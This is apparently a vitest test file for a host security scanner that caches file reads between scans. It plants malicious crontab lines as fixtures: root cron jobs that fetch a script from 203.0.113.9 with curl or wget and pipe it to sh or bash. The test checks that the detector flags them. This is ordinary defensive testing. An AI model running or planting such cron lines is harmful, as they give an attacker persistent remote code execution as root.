import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { FakeRoot } from '../../test/helpers/fake-proc.js';
import { BuiltinDetectorSet } from './detector-set.js';
import { FileMemo } from './file-memo.js';
import { scanHost } from './scan.js';

const fake = new FakeRoot();
fake.add({ pid: 1, ppid: 0, comm: 'init', argv: ['/sbin/init'], exe: '/sbin/init' });
afterAll(() => fake.cleanup());

const crontab = join(fake.root, 'etc/crontab');
const detectors = new BuiltinDetectorSet(fake.root);
const memo = new FileMemo();
const scan = () =>
  scanHost({
    root: fake.root,
    sampleMs: 0,
    logs: false,
    realtime: false,
    fileMemo: memo,
    detectors: detectors.forScan(),
  });
const cronFindings = (r: Awaited<ReturnType<typeof scan>>) =>
  r.findings.filter((f) => f.entity.path === '/etc/crontab').map((f) => f.id);

describe('repeated scans with a file memo', () => {
  it('does not read an unchanged file again, yet reports its findings every time; a rewrite is read again', async () => {
    writeFileSync(crontab, '*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n');
    const first = await scan();
    const found = cronFindings(first);
    expect(found.length).toBeGreaterThan(0);
    expect(memo.skipped).toBe(0);

    const second = await scan();
    expect(memo.skipped).toBeGreaterThan(0);
    expect(cronFindings(second)).toEqual(found);
    // Findings of one scan are its own objects: the next scan's incident ids and cost do not leak into them.
    expect(second.findings.find((f) => f.id === found[0])).not.toBe(
      first.findings.find((f) => f.id === found[0]),
    );

    writeFileSync(crontab, '17 * * * * root cd / && run-parts --report /etc/cron.hourly\n');
    const third = await scan();
    expect(cronFindings(third)).toEqual([]);
  });

  it('gives the same findings as a scan without the memo', async () => {
    writeFileSync(crontab, '*/5 * * * * root wget -q -O- http://203.0.113.9/y | bash\n');
    await scan();
    const memoized = await scan();
    const plain = await scanHost({ root: fake.root, sampleMs: 0, logs: false, realtime: false });
    const ids = (r: typeof plain) => r.findings.map((f) => f.id).sort();
    expect(memo.skipped).toBeGreaterThan(0);
    expect(ids(memoized)).toEqual(ids(plain));
  });
});
